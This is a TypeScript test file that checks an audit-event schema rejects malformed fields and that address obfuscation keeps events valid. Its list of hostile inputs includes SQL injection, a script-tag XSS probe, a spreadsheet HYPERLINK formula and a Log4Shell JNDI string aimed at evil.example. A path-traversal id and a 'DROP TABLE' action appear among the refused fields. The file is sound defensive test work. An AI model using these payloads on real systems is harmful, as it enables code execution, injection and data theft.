import { describe, expect, it } from 'vitest';
import { keyOfSecret, obfuscate } from '../../../../../protected-app/audit/ingest/obfuscate.ts';
import { auditEvent, mostEventBytes } from '../../../../../protected-app/audit/schemas/event.ts';
import { sampleEvent } from '../../../../support/protected-app/audit-events.ts';

const hostileTexts = [
  '',
  ' ',
  "' OR '1'='1' --",
  '<script>alert(1)</script>',
  '=HYPERLINK("https://evil.example")',
  '${jndi:ldap://evil.example/a}',
  'a NUL \u0000 inside',
  'an escape \u001b[2J',
  'turned \u202e around',
  'two\nlines',
  'a'.repeat(100_000),
];

const changed = (fields: Readonly<Record<string, unknown>>): unknown => ({
  ...sampleEvent(),
  ...fields,
});

it('takes an event with every field', () => {
  const event = sampleEvent({
    actor: { kind: 'person', id: 'user@example.com', address: '203.0.113.9' },
    reason: 'The name is taken — choose another.',
    before: 'a'.repeat(64),
    after: 'b'.repeat(64),
    details: { route: 'POST /products', status: 409, repeated: false },
  });

  expect(auditEvent.parse(event)).toEqual(event);
});

describe('refuses', () => {
  it.each<readonly [string, Readonly<Record<string, unknown>>]>([
    ['a later version', { schema: 'cordon-audit/2' }],
    ['a field that it does not know', { note: 'hello' }],
    ['an id that is a path', { eventId: '../../etc/passwd' }],
    ['a short id', { eventId: 'abc' }],
    ['a time without a zone', { time: '2026-11-30T10:00:00.000' }],
    ['a day that does not exist', { time: '2026-02-31T10:00:00.000Z' }],
    ['a system that it does not know', { producer: { system: 'payroll', function: 'A' } }],
    ['an action that is no word', { action: 'DROP TABLE events' }],
    ['an outcome of its own', { outcome: 'fine' }],
    ['a person who cannot be obfuscated', { actor: { kind: 'person', id: 'bob' } }],
    ['an address with a zone', { actor: { kind: 'person', id: 'user1', address: 'fe80::1%e0' } }],
    ['a hash of another length', { after: 'abc' }],
    ['a fraction', { details: { share: 0.5 } }],
    ['a number that loses digits', { details: { big: 2 ** 60 } }],
    ['a list in the details', { details: { list: ['a'] } }],
    [
      'too many details',
      { details: Object.fromEntries(Array.from({ length: 21 }, (_, index) => [`d${index}`, 1])) },
    ],
    ['a name with a space', { correlationId: 'two words' }],
    ['a letter that UTF-8 cannot write', { reason: 'half \ud800 a character' }],
  ])('%s', (_words, fields) => {
    expect(auditEvent.safeParse(changed(fields)).success).toBe(false);
  });

  it('more bytes than an event may have', () => {
    const details = Object.fromEntries(
      Array.from({ length: 20 }, (_, index) => [`detail${index}`, 'é'.repeat(256)]),
    );

    expect(auditEvent.safeParse(changed({ details })).success).toBe(false);
  });
});

it.each(hostileTexts)('takes hostile text only as one visible line: %j', (text) => {
  const { success } = auditEvent.safeParse(changed({ reason: text }));

  expect(success).toBe(/^[\x21-\x7e]([\x20-\x7e]{0,498}[\x21-\x7e])?$/.test(text));
});

it('takes an event after its address was encrypted wherever it takes it before', () => {
  const key = keyOfSecret('the secret of a test');
  const quotes = Object.fromEntries(
    Array.from({ length: 14 }, (_, index) => [`detail${index}`, '"'.repeat(256)]),
  );
  const takenSizes = Array.from({ length: 256 }, (_, index) => index + 1).flatMap((length) => {
    const event = sampleEvent({
      actor: { kind: 'person', id: 'user-0001', address: '::1' },
      details: { ...quotes, more: 'x'.repeat(200), filler: 'x'.repeat(length) },
    });
    if (!auditEvent.safeParse(event).success) return [];
    expect(auditEvent.safeParse(obfuscate(key, event)).success).toBe(true);
    return [Buffer.byteLength(JSON.stringify(event))];
  });

  expect(Math.max(...takenSizes)).toBe(mostEventBytes - '::1'.padEnd(39).length + '::1'.length);
});
